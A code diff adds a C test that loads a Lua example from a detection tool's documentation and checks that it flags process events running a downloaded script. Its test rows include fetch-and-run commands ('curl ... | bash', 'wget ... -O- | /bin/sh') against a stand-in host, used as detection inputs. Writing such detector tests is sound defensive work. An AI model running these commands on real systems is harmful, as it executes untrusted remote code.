@@ -1,6 +1,7 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 #include <pthread.h>
 #include <stdatomic.h>
+#include <stdio.h>
 #include <string.h>
 #include <time.h>
 #include "base/clock.h"
@@ -393,4 +394,45 @@ TEST(instances_on_several_threads_share_one_code)
 	check_int(stats.runs, THREADS * TURNS);
 	check_int(stats.matches, THREADS * TURNS);
 	check(stats.ns > 0);
+}
+
+/* ---- the guide ------------------------------------------------------------------------------------------------- */
+
+TEST(the_example_of_the_guide_does_what_it_says)
+{
+	static const struct {
+		const char *name, *line;
+		enum script_verdict want;
+	} rows[] = {
+		{ "fetched and run",
+		  "{\"process\":{\"name\":\"sh\",\"args\":[\"sh\",\"-c\",\"curl -s http://x/y | bash\"]}}",
+		  SCRIPT_YES },
+		{ "by its path",
+		  "{\"process\":{\"name\":\"bash\",\"args\":[\"bash\",\"-c\",\"cd /tmp; /usr/bin/wget -q x -O- "
+		  "|/bin/sh\"]}}",
+		  SCRIPT_YES },
+		{ "only fetched", "{\"process\":{\"name\":\"sh\",\"args\":[\"sh\",\"-c\",\"curl http://x\"]}}",
+		  SCRIPT_NO },
+		{ "no shell", "{\"process\":{\"name\":\"vi\",\"args\":[\"vi\",\"-c\",\"curl x | sh\"]}}", SCRIPT_NO },
+		{ "no arguments", "{\"process\":{\"name\":\"sh\"}}", SCRIPT_NO },
+	};
+	auto_file FILE *file = fopen(SHRIKE_SOURCE_DIR "/docs/scripts.md", "re");
+	auto_fixture struct fixture f = { 0 };
+	static char page[1 << 16];
+	char *first, *last;
+
+	require(file);
+	page[fread(page, 1, sizeof(page) - 1, file)] = 0;
+	first = strstr(page, "```lua\n");
+	require(first);
+	first += strlen("```lua\n");
+	last = strstr(first, "```");
+	require(last);
+	*last = 0;
+	require_ok(fixture_open(&f, first, NULL));
+	for_each_row (r, rows) {
+		require(fixture_event(&f, r->line));
+		check_int(script_run(f.script, &f.ev), r->want);
+		check_str(script_error(f.script), "");
+	}
 }
